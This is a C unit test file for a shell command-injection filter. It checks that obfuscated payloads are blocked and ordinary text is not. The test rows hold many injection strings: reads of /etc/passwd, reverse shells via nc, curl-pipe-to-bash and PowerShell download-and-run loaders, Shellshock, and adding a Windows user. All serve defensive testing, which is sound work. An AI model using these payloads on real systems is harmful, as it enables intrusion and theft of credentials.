/** Command injection: what becomes a command of a shell, and what only has its signs and words. */
#include "tests/unit/filter_alone.h"

#include <stdlib.h>
#include <time.h>

#include "filters/cmdi_calls.h"
#include "filters/shell_lexer.h"

static void blocks_what_becomes_a_command(void **state)
{
    (void)state;
    const struct {
        const char *rule;
        struct pen_str text;
    } rows[] = {
        {"cmdi.separator", PEN_STR("127.0.0.1; cat /etc/passwd")},
        {"cmdi.separator", PEN_STR("x|id")},
        {"cmdi.separator", PEN_STR("' && sleep 9 && '")},
        {"cmdi.separator", PEN_STR("x\nwhoami\n")},
        {"cmdi.separator", PEN_STR("\\n/usr/bin/id\\n")},
        {"cmdi.separator", PEN_STR("x & C:\\Windows\\System32\\calc.exe")},
        {"cmdi.separator", PEN_STR("x|/Sbin/foo")},
        {"cmdi.separator", PEN_STR("& net user eve Secret1 /add")},
        {"cmdi.substitution", PEN_STR("$(id)")},
        {"cmdi.substitution", PEN_STR("photo`whoami`.jpg")},
        {"cmdi.spelled", PEN_STR(";c'a't /etc/passwd")},
        {"cmdi.spelled", PEN_STR(";ca$@t /etc/passwd")},
        {"cmdi.spelled", PEN_STR(";cat${IFS}/etc/passwd")},
        {"cmdi.spelled", PEN_STR(";{cat,/etc/passwd}")},
        {"cmdi.spelled", PEN_STR(";/?\?\?/c?t /etc/passwd")},
        {"cmdi.spelled", PEN_STR("& w^h^o^a^m^i")},
        {"cmdi.spelled", PEN_STR("%COMSPEC:~0,1%")},
        {"cmdi.command", PEN_STR("nc -e /bin/sh 192.0.2.7 80")},
        {"cmdi.separator", PEN_STR("curl http://h.example/x.sh | bash")},
        {"cmdi.call", PEN_STR(";system('id')")},
        {"cmdi.code", PEN_STR("${@print(7)}")},
        {"cmdi.include", PEN_STR("<!--#exec cmd=\"id\" -->")},
        {"cmdi.function", PEN_STR("() { :;}; echo x")},
        {"cmdi.loader",
         PEN_STR("IEX (New-Object Net.WebClient).DownloadString('http://h.example')")},
        {"cmdi.option", PEN_STR("-oProxyCommand=id")},
        {"cmdi.separator", PEN_STR(";git clone http://h.example/x")},
        {"cmdi.separator", PEN_STR("& wmic process list")},
        {"cmdi.separator", PEN_STR(";sudo -u www id")},
        {"cmdi.separator", PEN_STR(";reboot")},
        {"cmdi.separator", PEN_STR(";a=ca;b=t;$a$b /etc/passwd")},
        {"cmdi.substitution", PEN_STR(";host `whoami`.h.example")},
        {"cmdi.spelled", PEN_STR(";who``ami")},
        {"cmdi.spelled", PEN_STR(";wh$()oami")},
        {"cmdi.spelled", PEN_STR(";${PATH:0:1}bin${PATH:0:1}id")},
        {"cmdi.separator", PEN_STR("x|+dir+c:\\")},
        {"cmdi.substitution", PEN_STR("x`id`")},
        {"cmdi.substitution", PEN_STR("`id`")},
        {"cmdi.substitution", PEN_STR("`ls -la | nc 192.0.2.7 80`")},
        {"cmdi.substitution", PEN_STR("`id | base64`")},
        {"cmdi.separator", PEN_STR("x `cat /etc/passwd | nc 192.0.2.7 80`")},
        {"cmdi.separator", PEN_STR("a `b`; cat /etc/passwd")},
        {"cmdi.separator", PEN_STR("fix `ls | head`; cat /etc/passwd")},
        {"cmdi.separator", PEN_STR("'`id|sh`'")},
        {"cmdi.command", PEN_STR("cat /etc/pa?swd")},
        {"cmdi.command", PEN_STR("cat /e[s-u]c/[!a]asswd")},
        {"cmdi.spelled", PEN_STR("/?\?\?/c?t /etc/p*")},
        {"cmdi.spelled", PEN_STR("/bin/ca\\t /etc/passwd")},
        {"cmdi.separator", PEN_STR(";a=i;b=d;$a$b")},
        {"cmdi.separator", PEN_STR("x;a='i';b=d;${a}$b")},
        {"cmdi.substitution", PEN_STR("SELECT 1;`id`")},
    };
    for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
        const struct pen_judgement judgement = filter_case_text(&it, rows[i].text);
        if (judgement.verdict != PEN_BLOCK || !filter_case_reports(&it, rows[i].rule)) {
            fail_msg("%.*s: %s %s", PEN_STR_ARGS(rows[i].text), pen_verdict_name(judgement.verdict),
                     judgement.reason);
        }
    }
}

static void stays_silent_on_ordinary_text(void **state)
{
    (void)state;
    static const struct {
        const char *why;
        struct pen_str text;
    } rows[] = {
        {"a company", PEN_STR("AT&T")},
        {"a list", PEN_STR("a; b")},
        {"a menu", PEN_STR("fish | chips")},
        {"a table's row", PEN_STR("| id | name | date |")},
        {"a table's head", PEN_STR("id;name;mail")},
        {"words that are commands too", PEN_STR("find it; sort it; mail it at last")},
        {"code in Markdown", PEN_STR("Run `ls -la /tmp` to see it.")},
        {"a commit's subject", PEN_STR("curl: fix a leak; wget has it too")},
        {"a query", PEN_STR("a=1&id=5&sort=name")},
        {"a header's value", PEN_STR("text/html; charset=utf-8")},
        {"a cookie", PEN_STR("a=b; path=/; secure")},
        {"a program", PEN_STR("if (a && b) sleep(5); exit;")},
        {"style rules", PEN_STR("color: red; top: 0")},
        {"a build", PEN_STR("npm ci && npm test | tee log.txt")},
        {"a container", PEN_STR("docker run -v $(pwd):/app node:20")},
        {"a path of Windows", PEN_STR("C:\\new\\readme.txt")},
        {"a variable", PEN_STR("$HOME is set")},
        {"a template", PEN_STR("Hello ${name}, ${{ github.ref }}")},
        {"lines of a letter", PEN_STR("Dear all,\n\nwho comes at 5?\n\nAnn")},
        {"a program's path", PEN_STR("/usr/bin/python3")},
        {"a number", PEN_STR("-5")},
        {"a method", PEN_STR("constructor() { super(); }")},
        {"a query of logs", PEN_STR("index=main status>=500 | stats count by host | sort -count")},
        {"a row of Markdown", PEN_STR("| git clone http://h.example/x | a copy |")},
        {"words behind a separator", PEN_STR("; go home and see who is there")},
        {"an image's recipe", PEN_STR("RUN npm ci && npm run build; rm -rf /root/.npm")},
        {"a fence", PEN_STR("```bash\nnpm ci\n```")},
        {"an empty code", PEN_STR("a `` b")},
        {"a pipe in a comment's code", PEN_STR("Try `cat foo.txt | wc -l`.")},
        {"a pipe within a sentence", PEN_STR("I'd use `grep -r foo . | wc -l` here.")},
        {"a pipe at a message's end", PEN_STR("Use `echo $PATH | tr ':' '\\n'` ")},
        {"a pipe and nothing else", PEN_STR("`ls | head`")},
        {"a list of processes", PEN_STR("`ps aux | grep node`")},
        {"code and a substitution behind it", PEN_STR("fix: `rm -rf /tmp/x` in ci; use $(pwd)")},
        {"code that begins a sentence", PEN_STR("`cat foo.txt | wc -l` prints the count")},
        {"an installer", PEN_STR("Never do `curl http://h.example/x.sh | bash`, please.")},
        {"two pieces of code", PEN_STR("Use `ls | head` or `cat x | sort -u`; then push it")},
        {"a sum", PEN_STR("a|+5|-3")},
        {"names of a query", PEN_STR("SELECT `o`.`x` AS `o_x` FROM `o`")},
        {"names that are commands",
         PEN_STR("select `u`.`id`, `u`.`date` from `users` as `u` where `u`.`id`=5")},
        {"a pattern of files", PEN_STR("cat docs/*.md")},
    };
    for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
        const struct pen_judgement judgement = filter_case_text(&it, rows[i].text);
        if (judgement.verdict == PEN_BLOCK) fail_msg("%s: %s", rows[i].why, judgement.reason);
    }
}

static void a_sentence_that_mentions_a_command_is_none(void **state)
{
    (void)state;
    const struct pen_str text = PEN_STR("The report failed because somebody had typed rm -rf "
                                        "/tmp/x; cat /etc/passwd was tried as well, "
                                        "says the log. We should quote the argument.");
    assert_int_not_equal(filter_case_text(&it, text).verdict, PEN_BLOCK);
}

/* How an interface is called: nothing is fetched to be run, written or sent on. */
static void flags_how_an_interface_is_called(void **state)
{
    (void)state;
    const struct pen_str told = PEN_STR("curl -X POST https://api.example.com/v1 -d '{\"a\":1}'");
    assert_int_not_equal(filter_case_text(&it, told).verdict, PEN_BLOCK);
    const struct pen_str stored =
        PEN_STR("curl -X POST https://a.example/x -d 'a' > /var/www/x.php");
    assert_int_equal(filter_case_text(&it, stored).verdict, PEN_BLOCK);
    const struct pen_str sent = PEN_STR("curl -X POST https://a.example/x -d '@/etc/passwd'");
    assert_int_equal(filter_case_text(&it, sent).verdict, PEN_BLOCK);
}

static void a_declared_sink_lowers_the_threshold(void **state)
{
    (void)state;
    const struct pen_str sinks[] = {PEN_STR("shell")};
    const struct pen_policy policy = {.sinks = sinks, .sink_count = 1};
    struct filter_case strict;
    filter_case_open(&strict, &policy);
    const struct pen_str text = PEN_STR("--output=/srv/x");
    assert_int_not_equal(filter_case_text(&it, text).verdict, PEN_BLOCK);
    assert_int_equal(filter_case_text(&strict, text).verdict, PEN_BLOCK);
    assert_int_not_equal(filter_case_text(&strict, PEN_S("fish | chips")).verdict, PEN_BLOCK);
    assert_int_equal(filter_case_text(&strict, PEN_S("`true`")).verdict, PEN_BLOCK);
    assert_int_equal(filter_case_text(&strict, PEN_S("/usr/bin/id")).verdict, PEN_BLOCK);
    assert_int_equal(filter_case_text(&strict, PEN_S("`ls | head`")).verdict, PEN_BLOCK);
    assert_int_not_equal(
        filter_case_text(&strict, PEN_S("Pass `:?` to `rm -rf`; replace `$PWD` by `$(pwd)`."))
            .verdict,
        PEN_BLOCK);
    assert_int_not_equal(filter_case_text(&strict, PEN_S("```bash\nnpm ci\n```")).verdict,
                         PEN_BLOCK);
    filter_case_close(&strict);
}

static void reports_the_span_in_the_decoded_form(void **state)
{
    (void)state;
    const struct pen_event_input input = {.query = PEN_STR("host=a%3Buname+-a%23")};
    const struct pen_judgement judgement = filter_case_event(&it, &input);
    assert_int_equal(judgement.verdict, PEN_BLOCK);
    const struct pen_leaf *const leaf = judgement.finding->leaf;
    const struct pen_span span = judgement.finding->span;
    assert_true(span.end <= leaf->text.len);
    assert_true(pen_str_starts(pen_str_slice(leaf->text, span.start, span.end), PEN_S(";uname")));
}

static void padding_hides_nothing(void **state)
{
    (void)state;
    static char text[20000];
    struct pen_buf buf = pen_buf_over(text, sizeof(text));
    while (buf.len < 18000) {
        pen_buf_byte(&buf, 'a');
    }
    pen_buf_put(&buf, PEN_S(";cat /etc/passwd"));
    assert_int_equal(filter_case_text(&it, pen_buf_str(&buf)).verdict, PEN_BLOCK);
}

/* The word of the only command behind the text's first separator. */
static void assert_word(struct pen_str text, const char *word)
{
    struct pen_shell shell = pen_shell_begin(text);
    struct pen_shell_part part;
    assert_true(pen_shell_next(&shell, &part));
    assert_true(pen_shell_next(&shell, &part));
    if (strcmp(part.word, word) != 0) fail_msg("%.*s: %s", PEN_STR_ARGS(text), part.word);
}

static void reads_a_word_as_a_shell_does(void **state)
{
    (void)state;
    assert_word(PEN_S(";cat x"), "cat");
    assert_word(PEN_S("; /usr/bin/cat x"), "cat");
    assert_word(PEN_S(";c'a't x"), "cat");
    assert_word(PEN_S(";c\"\"at x"), "cat");
    assert_word(PEN_S(";c\\at x"), "cat");
    assert_word(PEN_S(";c^at x"), "cat");
    assert_word(PEN_S(";ca$@t x"), "cat");
    assert_word(PEN_S(";ca${y}t x"), "cat");
    assert_word(PEN_S(";$'\\x63\\141t' x"), "cat");
    assert_word(PEN_S(";cat$IFS/x"), "cat");
    assert_word(PEN_S(";cat</x"), "cat");
    assert_word(PEN_S(";{cat,x}"), "cat");
    assert_word(PEN_S(";A=1 B=2 cat x"), "cat");
    assert_word(PEN_S(";(cat x)"), "cat");
    assert_word(PEN_S(";sudo -u www A=1 cat x"), "cat");
    assert_word(PEN_S(";timeout 5 cat x"), "cat");
    assert_word(PEN_S(";time flies"), "time");
    assert_word(PEN_S(";c$()at x"), "cat");
    assert_word(PEN_S(";c``at x"), "cat");
    assert_word(PEN_S(";${HOME:0:1}bin${HOME:0:1}cat x"), "cat");
    assert_word(PEN_S("';cat'"), "cat");
    assert_word(PEN_S("&C:\\Windows\\cmd.exe"), "cmd.exe");
}

static void takes_linear_time_whatever_the_text(void **state)
{
    (void)state;
    static const char *const units[] = {
        ";",   "|id", "`",  "$(", "${", "$IFS", "';'",  "system('", "() {",   "{a,", "A=1 ", "%a",
        "\\n", "<?",  ":~", "-",  "/",  "\n",   "a``a", "a `b|c` ", ";sudo ", "$()", "|+a",  ";$a"};
    for (size_t u = 0; u < PEN_COUNT_OF(units); u++) {
        filter_case_is_linear(&it, FILTER_CASE_LETTER, pen_str_from_c(units[u]));
    }
}

static double seconds_of_calls(size_t length)
{
    char *const text = malloc(length);
    assert_non_null(text);
    memset(text, '=', length);
    for (size_t i = 0; i + 1 < length / 2; i += 2) {
        memcpy(text + i, "a(", 2);
    }
    const clock_t start = clock();
    (void)pen_cmdi_calls((struct pen_str){text, length});
    free(text);
    return (double)(clock() - start) / CLOCKS_PER_SEC;
}

/* Each call's end was looked for through all of the text: seconds for a megabyte. */
static void looks_once_for_brackets_that_nothing_closes(void **state)
{
    (void)state;
    (void)seconds_of_calls(1 << 16);
    assert_true(seconds_of_calls(1 << 21)
                < 50 * seconds_of_calls(1 << 17) + 0.01); /* 16, not 256 */
}

static void cut_at_every_byte_it_never_reads_on(void **state)
{
    (void)state;
    static const char text[] =
        "x;c'a't${IFS}$'\\x2f' {a,b} \\n%A:~1%`id`$(id)system('id')() { :;};<?php -o";
    for (size_t length = 0; length < sizeof(text); length++) {
        char *const exact = malloc(length > 0 ? length : 1);
        assert_non_null(exact);
        memcpy(exact, text, length);
        (void)filter_case_text(&it, (struct pen_str){exact, length});
        free(exact);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(blocks_what_becomes_a_command),
        cmocka_unit_test(stays_silent_on_ordinary_text),
        cmocka_unit_test(a_sentence_that_mentions_a_command_is_none),
        cmocka_unit_test(flags_how_an_interface_is_called),
        cmocka_unit_test(a_declared_sink_lowers_the_threshold),
        cmocka_unit_test(reports_the_span_in_the_decoded_form),
        cmocka_unit_test(padding_hides_nothing),
        cmocka_unit_test(reads_a_word_as_a_shell_does),
        cmocka_unit_test(takes_linear_time_whatever_the_text),
        cmocka_unit_test(looks_once_for_brackets_that_nothing_closes),
        cmocka_unit_test(cut_at_every_byte_it_never_reads_on),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
